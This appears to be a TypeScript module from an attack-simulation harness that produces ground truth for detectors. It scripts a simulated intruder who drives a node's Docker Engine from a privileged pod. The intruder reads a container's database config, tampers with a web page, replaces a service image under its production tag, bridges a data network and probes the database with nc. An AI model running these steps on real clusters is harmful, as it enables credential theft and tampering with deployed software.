/** The intruder's steps at the Docker Engine, from inside the container of the pod that holds its socket. */
import { image } from './estate.ts'
import type { Estate } from './estate.ts'
import type { Attack } from './ground-truth.ts'
import { argv } from './people.ts'
import type { Ran } from './people.ts'

const web = image('shop/web', '1.4.2')

const engineOf =
  (estate: Estate, pod: string) =>
  (command: string[]): Promise<Ran> =>
    estate.mallory.run(argv`kubectl -n shop exec ${pod} -c setup -- chroot /host /usr/bin/docker ${command}`)

const seen = (estate: Estate, pod: string) => ({
  sources: ['kubernetes-audit', 'docker-engine'],
  entities: { namespace: 'shop', pod, container: estate.container(pod, 'setup') },
})

export function runInContainers(attack: Attack, estate: Estate, pod: string, service: string): Promise<void> {
  const docker = engineOf(estate, pod)
  const what = "Lists the node's containers and runs commands in some of them, past Kubernetes"
  return attack({ ...seen(estate, pod), step: 'engine-exec', what, catalogue: ['B17', 'B05'] }, async () => {
    await docker(argv`ps --format {{.Names}}`)
    await docker(argv`exec shop_ledger_1 cat /etc/db/db.conf`)
    await docker(argv`exec ${service} sh -c ${'echo "<!-- -->" >>/www/index.html; env'}`)
    return { target: service }
  })
}

export function replaceImage(attack: Attack, estate: Estate, pod: string, service: string): Promise<void> {
  const docker = engineOf(estate, pod)
  const what = "Commits the service's container, gives its image the name in use, and runs it"
  const catalogue = ['D03', 'D04', 'D06']
  return attack({ ...seen(estate, pod), step: 'image-replaced', what, catalogue }, async () => {
    await docker(argv`commit ${service} shop/web:build`)
    await docker(argv`tag shop/web:build ${web}`)
    await docker(argv`run -d --name shop_edge_2 --network shop_front ${web}`)
    return { image: web, target: service }
  })
}

export function bridgeBoundary(attack: Attack, estate: Estate, pod: string): Promise<void> {
  const docker = engineOf(estate, pod)
  const what = 'Connects the container she started to the second network'
  return attack({ ...seen(estate, pod), step: 'boundary-bridged', what, catalogue: ['H06'] }, async () => {
    await docker(argv`network connect shop_data shop_edge_2`)
    await docker(argv`exec shop_edge_2 sh -c ${'echo status | timeout 3 nc shop_ledger_1 5432'}`)
    return { network: 'shop_data', target: 'shop_edge_2' }
  })
}

export function leaveAtOnce(attack: Attack, estate: Estate, pod: string): Promise<void> {
  const docker = engineOf(estate, pod)
  const what = 'Runs a container that lives three seconds and is gone'
  return attack({ ...seen(estate, pod), step: 'three-second-container', what, catalogue: ['D03'] }, async () => {
    const options = argv`--rm --network shop_data -e LEDGER_PASSWORD=Not-Real-4711`
    await docker(argv`run ${options} ${image('platform/base', '1.35')} sh -c ${'id; sleep 3'}`)
  })
}
